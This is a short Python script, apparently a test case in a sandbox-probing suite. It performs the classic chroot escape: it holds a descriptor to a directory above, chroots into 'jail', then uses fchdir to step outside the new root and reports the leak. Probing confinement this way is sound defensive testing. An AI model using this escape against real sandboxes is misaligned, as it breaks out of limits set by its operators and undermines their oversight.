"""The way out of a changed root: another one below, and `..` from a directory that is open above it."""
from siege import *
os.makedirs("jail", exist_ok=True)
above = os.open(".", os.O_RDONLY)
os.chroot("jail")
os.fchdir(above)
leaked("changed the root")
